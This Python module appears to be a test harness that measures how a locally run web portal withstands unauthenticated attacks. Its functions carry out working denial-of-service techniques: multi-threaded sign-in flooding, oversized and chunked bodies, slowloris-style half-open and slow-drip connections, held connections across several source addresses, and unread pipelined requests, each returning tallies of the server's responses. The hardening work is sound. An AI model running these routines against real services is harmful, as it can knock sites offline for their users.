"""Attacks on a running portal by somebody without a credential; each returns what came of it."""

import socket
import threading
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing
from dataclasses import dataclass, field
from functools import partial
from http.client import HTTPConnection, HTTPException
from itertools import count, islice
from statistics import quantiles
from threading import Event
from time import monotonic
from urllib.parse import urlencode, urlsplit

MEBIBYTE = 2**20
FROM = "127.0.0.2"  # another address than that of who reads


@dataclass(frozen=True, slots=True, kw_only=True)
class Outcome:
    """What an attack came to: how often which answer, how much was taken, for how long."""

    attack: str
    answers: Counter[str] = field(default_factory=Counter)
    sent_bytes: int = 0
    seconds: float = 0.0

    def row(self) -> str:
        """Return one line of a table."""
        told = ", ".join(f"{count} x {what}" for what, count in sorted(self.answers.items()))
        size = f"{self.sent_bytes / MEBIBYTE:.1f} MiB"
        return f"| {self.attack} | {told} | {size} | {self.seconds:.1f} s |"


@dataclass(frozen=True, slots=True, kw_only=True)
class Reading:
    """How long pages took, one after the other."""

    seconds: tuple[float, ...]
    failures: Counter[str]

    @property
    def p95(self) -> float:
        """What nineteen of twenty stayed under."""
        return quantiles(self.seconds, n=20, method="inclusive")[-1]


def read_pages(
    url: str, *, path: str, times: int, cookie: str = "", pause: float = 0.05
) -> Reading:
    """Read a page over and over, as one reader does."""
    seconds, failures = [], Counter[str]()
    for _ in range(times):
        began = monotonic()
        said = _answer(url, "GET", path, headers={"Cookie": cookie})
        seconds.append(monotonic() - began)
        if said != "200":
            failures[said] += 1
        Event().wait(pause)
    return Reading(seconds=tuple(seconds), failures=failures)


def guess_passwords(
    url: str, *, loops: int, until: Event, names: Callable[[int], str] = "nobody-{}".format
) -> Outcome:
    """Sign in under ever new names from many threads until told to stop."""
    numbers, answers, began = count(), Counter[str](), monotonic()
    lock = threading.Lock()

    def loop(_: int) -> None:
        token = csrf_token(url)
        while not until.is_set():
            said = sign_in(url, name=names(next(numbers)), password="guess", token=token)  # noqa: S106
            with lock:
                answers[said] += 1

    with ThreadPoolExecutor(loops) as pool:
        list(pool.map(loop, range(loops)))
    return Outcome(
        attack=f"{loops} loops at the sign-in page",
        answers=answers,
        seconds=monotonic() - began,
    )


def send_without_end(url: str, *, path: str, size: int, announces: int | None = None) -> Outcome:
    """Send a body, announced or in chunks, until the portal answers or hangs up."""
    began = monotonic()
    with closing(_connected(url)) as plain:
        plain.settimeout(20)
        framing = f"Content-Length: {announces}" if announces else "Transfer-Encoding: chunked"
        plain.sendall(_head(url, "POST", path, framing))
        sent, status = _pour(plain, _parts(size, is_chunked=announces is None))
    how = f"announced as {announces}" if announces else "in chunks"
    return Outcome(
        attack=f"{size // MEBIBYTE} MiB {how} to {path}",
        answers=Counter([status]),
        sent_bytes=sent,
        seconds=monotonic() - began,
    )


def open_halves(url: str, *, connections: int, patience: float) -> Outcome:
    """Open connections that never end their headers; count how they ended."""
    began, answers = monotonic(), Counter[str]()
    with ExitStack() as stack:
        opened = [stack.enter_context(closing(_connected(url))) for _ in range(connections)]
        for each in opened:
            _try(partial(each.sendall, b"GET / HTTP/1.1\r\nHost: "))
        for each in opened:
            each.settimeout(max(0.05, patience - (monotonic() - began)))
            answers[_end_of(each)] += 1
    return Outcome(
        attack=f"{connections} half-open connections",
        answers=answers,
        seconds=monotonic() - began,
    )


def hold_connections(url: str, *, connections: int, until: Event) -> Outcome:
    """Announce bodies on very many connections of four addresses, and send no more of them."""
    began, answers = monotonic(), Counter[str]()
    head = _head(url, "POST", "/sign-in/", f"Content-Length: {MEBIBYTE}")
    with ExitStack() as stack:
        opened = []
        for number in range(connections):
            plain = stack.enter_context(closing(_connected(url, at=f"127.0.0.{2 + number % 4}")))
            _try(partial(plain.sendall, head + b"x" * 1024))
            opened.append(plain)
        until.wait()
        for each in opened:
            each.settimeout(0.01)
            answers[_end_of(each)] += 1
    return Outcome(
        attack=f"{connections} bodies that never end, of four addresses",
        answers=answers,
        seconds=monotonic() - began,
    )


def drip(url: str, *, path: str, pause: float, patience: float, headers: str = "") -> Outcome:
    """Send a body of a mebibyte byte by byte until the portal answers or hangs up."""
    began, sent = monotonic(), 0
    with closing(_connected(url)) as plain:
        plain.sendall(_head(url, "POST", path, f"Content-Length: {MEBIBYTE}\r\n{headers}".strip()))
        plain.settimeout(pause)
        status = ""
        while not status and monotonic() - began < patience:
            sent += 1
            status = _try(lambda: plain.sendall(b"x")) or _heard(plain)
    return Outcome(
        attack=f"a body at {1 / pause:.0f} byte a second",
        answers=Counter([status or "still open"]),
        sent_bytes=sent,
        seconds=monotonic() - began,
    )


def read_nothing(url: str, *, path: str, connections: int, patience: float, cookie: str) -> Outcome:
    """Ask for pages over and over on each connection and never read an answer."""
    began, answers = monotonic(), Counter[str]()
    asked = _head(url, "GET", path, f"Cookie: {cookie}") * 400
    with ExitStack() as stack:
        opened = [stack.enter_context(closing(_connected(url))) for _ in range(connections)]
        for each in opened:
            each.setblocking(False)
            _try(partial(each.send, asked))
        while monotonic() - began < patience and len(answers) == 0:
            Event().wait(1)
            gone = sum(_is_reset(each) for each in opened)
            if gone == len(opened):
                answers["reset"] = gone
    answers = answers or Counter({"still open": connections})
    return Outcome(
        attack=f"{connections} readers who read nothing",
        answers=answers,
        seconds=monotonic() - began,
    )


def csrf_token(url: str) -> str:
    """Return the token of a fresh sign-in page."""
    with closing(_connection(url)) as connection:
        connection.request("GET", "/sign-in/")
        answer = connection.getresponse()
        answer.read()
        cookies = answer.headers.get_all("Set-Cookie") or [""]
    return next(each for each in cookies if each.startswith("csrftoken=")).split(";")[0][10:]


def sign_in(url: str, *, name: str, password: str, token: str) -> str:
    """Sign in once; return the status, or what became of the connection."""
    form = {"username": name, "password": password, "csrfmiddlewaretoken": token}
    headers = {
        "Cookie": f"csrftoken={token}",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    return _answer(url, "POST", "/sign-in/", body=urlencode(form), headers=headers)


def session_cookie(url: str, *, name: str, password: str) -> str:
    """Sign in and return the cookie that shows it."""
    token = csrf_token(url)
    form = {"username": name, "password": password, "csrfmiddlewaretoken": token}
    headers = {
        "Cookie": f"csrftoken={token}",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    with closing(_connection(url)) as connection:
        connection.request("POST", "/sign-in/", urlencode(form), headers)
        answer = connection.getresponse()
        answer.read()
        cookies = answer.headers.get_all("Set-Cookie") or [""]
    return next(each for each in cookies if each.startswith("portal_session=")).split(";")[0]


def _answer(
    url: str, method: str, path: str, *, body: str = "", headers: dict[str, str] | None = None
) -> str:
    try:
        with closing(_connection(url, is_attack=method == "POST")) as connection:
            connection.request(method, path, body or None, headers or {})
            answer = connection.getresponse()
            answer.read()
            return str(answer.status)
    except (OSError, HTTPException) as error:
        return type(error).__name__


def _connection(url: str, *, is_attack: bool = False) -> HTTPConnection:
    where = urlsplit(url)
    source = (FROM, 0) if is_attack else None
    return HTTPConnection(where.hostname or "", where.port, timeout=60, source_address=source)


def _connected(url: str, *, at: str = FROM) -> socket.socket:
    where = urlsplit(url)
    return socket.create_connection((where.hostname or "", where.port or 80), 20, (at, 0))


def _head(url: str, method: str, path: str, *headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {urlsplit(url).netloc}", *headers, "", ""]
    return "\r\n".join(lines).encode()


def _parts(size: int, *, is_chunked: bool) -> Iterator[bytes]:
    part = b"x" * 65_536
    framed = b"10000\r\n" + part + b"\r\n" if is_chunked else part
    return islice(iter(lambda: framed, b""), size // len(part))


def _pour(plain: socket.socket, parts: Iterable[bytes]) -> tuple[int, str]:
    sent = 0
    for part in parts:
        if _try(partial(plain.sendall, part)):
            break
        sent += len(part)
    return sent, _heard(plain) or "no answer"


def _heard(plain: socket.socket) -> str:
    """Return the status that came, or that the other side is gone; nothing while it is silent."""
    try:
        said = plain.recv(65_536)
    except TimeoutError:
        return ""
    except OSError as error:
        return type(error).__name__
    return said.split(b" ")[1].decode() if b" " in said else "closed"


def _end_of(plain: socket.socket) -> str:
    try:
        return "closed" if not plain.recv(65_536) else "answered"
    except TimeoutError:
        return "still open"
    except OSError:
        return "reset"


def _is_reset(plain: socket.socket) -> bool:
    return bool(plain.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)) or bool(
        _try(lambda: plain.send(b"x"))
    )


def _try(act: Callable[[], object]) -> str:
    try:
        act()
    except BlockingIOError:
        return ""
    except OSError as error:
        return type(error).__name__
    return ""
